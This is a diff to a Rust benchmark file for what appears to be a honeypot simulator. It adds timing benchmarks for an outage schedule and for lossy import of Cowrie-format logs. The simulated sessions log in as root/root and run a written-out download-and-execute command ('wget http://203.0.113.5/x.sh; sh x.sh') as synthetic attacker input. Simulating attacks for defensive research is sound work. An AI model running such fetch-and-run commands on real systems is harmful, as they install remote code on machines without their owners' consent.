@@ -149,6 +149,73 @@ fn bench_session_sim(c: &mut Criterion) {
     });
 }
 
+fn bench_outage_schedule(c: &mut Criterion) {
+    use honeypot::{OutageConfig, OutageSchedule};
+    let sched = OutageSchedule::seeded(
+        &OutageConfig::degraded(),
+        200,
+        hutil::Date::new(2021, 12, 1),
+        hutil::Date::new(2024, 8, 31),
+        7,
+    );
+    // The per-session availability probe the driver issues on its hot path.
+    let t = hutil::Date::new(2023, 6, 15).at(14, 30, 0);
+    c.bench_function("outage_is_up", |b| {
+        b.iter(|| {
+            let mut up = 0u32;
+            for s in 0..200u16 {
+                up += u32::from(sched.is_up(black_box(s), t));
+            }
+            black_box(up)
+        })
+    });
+    c.bench_function("outage_down_sensor_secs_day", |b| {
+        b.iter(|| black_box(sched.down_sensor_secs(hutil::Date::new(2023, 10, 8))))
+    });
+}
+
+fn bench_cowrie_lossy_import(c: &mut Criterion) {
+    use honeypot::{from_cowrie_log_lossy, to_cowrie_log, SessionInput, SessionSim};
+    let store = honeypot::shell::NullStore;
+    let sim = SessionSim::new(
+        honeypot::AuthPolicy::default(),
+        &store,
+        netsim::latency::LatencyModel::new(1),
+    );
+    let sessions: Vec<_> = (0..200u64)
+        .map(|i| {
+            sim.run(SessionInput {
+                honeypot_id: (i % 20) as u16,
+                honeypot_ip: netsim::Ipv4Addr(1),
+                client_ip: netsim::Ipv4Addr(0x0a00_0000 + i as u32),
+                client_port: 4000 + (i as u16),
+                protocol: honeypot::Protocol::Ssh,
+                start: hutil::Date::new(2022, 5, 1).at(0, 0, 0).plus_secs(i as i64 * 60),
+                client_version: Some("SSH-2.0-Go".into()),
+                logins: vec![("root".into(), "root".into())],
+                commands: vec!["cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh".into()],
+                idle_out: false,
+            })
+        })
+        .collect();
+    let log = to_cowrie_log(&sessions);
+    // Every 13th line corrupted: the import keeps scanning past failures.
+    let corrupted: String = log
+        .lines()
+        .enumerate()
+        .map(|(i, l)| {
+            if i % 13 == 0 {
+                format!("{{corrupt {l}\n")
+            } else {
+                format!("{l}\n")
+            }
+        })
+        .collect();
+    c.bench_function("cowrie_lossy_import_200_sessions", |b| {
+        b.iter(|| black_box(from_cowrie_log_lossy(black_box(&corrupted)).sessions.len()))
+    });
+}
+
 criterion_group!(
     substrates,
     bench_sha256,
@@ -158,5 +225,7 @@ criterion_group!(
     bench_shell,
     bench_wire_dialogue,
     bench_session_sim,
+    bench_outage_schedule,
+    bench_cowrie_lossy_import,
 );
 criterion_main!(substrates);
